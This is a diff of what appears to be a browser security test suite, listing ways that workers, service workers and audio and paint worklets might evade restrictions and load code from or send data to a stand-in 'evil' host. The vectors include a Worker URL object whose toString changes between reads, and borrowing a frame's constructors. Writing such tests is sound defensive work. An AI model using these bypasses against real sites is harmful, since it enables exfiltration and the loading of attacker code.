@@ -27,28 +27,28 @@ export default {
   "a worker whose URL changes": ({ own, blob, sends }) => {
     let reads = 0;
     const bad = blob(sends, "text/javascript");
-    void new Worker({ toString: () => (reads++ % 2 ? own + "/idle.js" : bad) });
+    void new Worker({ toString: () => (reads++ % 2 ? `${own}/idle.js` : bad) });
   },
   "a worker of a frame": ({ add, blob, sends }) => {
     add("iframe");
     void new window[0].Worker(blob(sends, "text/javascript"));
   },
-  "a worker of the site's that obeys": ({ own, sends }) => new Worker(own + "/evaluates.js").postMessage(sends),
-  "a worker of the site's that is told where": ({ own, evil, sends }) =>
+  "a worker of the site's that obeys": ({ own, sends }) => new Worker(`${own}/evaluates.js`).postMessage(sends),
+  "a worker of the site's that is told where": ({ own, evil }) =>
     void new Worker(`${own}/sends.js?to=${encodeURIComponent(evil)}`),
-  "a shared worker of the site's": ({ own, evil, sends }) =>
+  "a shared worker of the site's": ({ own, evil }) =>
     void new SharedWorker(`${own}/sends.js?to=${encodeURIComponent(evil)}`),
   "a service worker of the site's": () => navigator.serviceWorker.register("sw.js"),
   "a service worker by a frame's container": ({ add }) => {
     add("iframe");
-    return window[0].ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, location.href + "sw.js", {
+    return window[0].ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, `${location.href}sw.js`, {
       scope: location.href,
     });
   },
-  "an audio worklet's module": ({ evil }) => new AudioContext().audioWorklet.addModule(evil + "/x.js"),
+  "an audio worklet's module": ({ evil }) => new AudioContext().audioWorklet.addModule(`${evil}/x.js`),
   "an audio worklet's import": ({ blob, evil }) =>
     new AudioContext().audioWorklet.addModule(blob(`import "${evil}/x.js"`, "text/javascript")),
-  "a paint worklet's module": ({ evil }) => CSS.paintWorklet.addModule(evil + "/x.js"),
+  "a paint worklet's module": ({ evil }) => CSS.paintWorklet.addModule(`${evil}/x.js`),
   "a paint worklet's import": ({ blob, evil }) =>
     CSS.paintWorklet.addModule(blob(`import "${evil}/x.js"`, "text/javascript")),
 };
